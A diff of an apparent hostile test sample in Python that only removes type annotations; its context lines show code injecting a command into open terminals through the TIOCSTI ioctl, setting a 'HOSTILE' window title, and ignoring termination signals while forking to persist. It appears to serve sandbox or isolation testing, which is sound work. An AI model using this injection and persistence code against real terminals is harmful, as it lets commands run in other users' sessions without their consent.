@@ -12,12 +12,12 @@ TYPED = "touch /root/typed; echo TY''PED\n"
 TITLE = b"\x1b]0;HOSTILE\x07"
 
 
-def type_into(descriptor: int) -> None:
+def type_into(descriptor):
     for character in TYPED:
         fcntl.ioctl(descriptor, termios.TIOCSTI, character.encode())
 
 
-def reach_terminals() -> None:
+def reach_terminals():
     for name in ("/dev/tty", "/dev/console", *(f"/proc/self/fd/{number}" for number in range(32))):
         try:
             descriptor = os.open(name, os.O_RDWR | os.O_NOCTTY)
@@ -34,7 +34,7 @@ def reach_terminals() -> None:
             continue
 
 
-def stay() -> None:
+def stay():
     signal.signal(signal.SIGTERM, signal.SIG_IGN)
     signal.signal(signal.SIGHUP, signal.SIG_IGN)
     if os.fork():
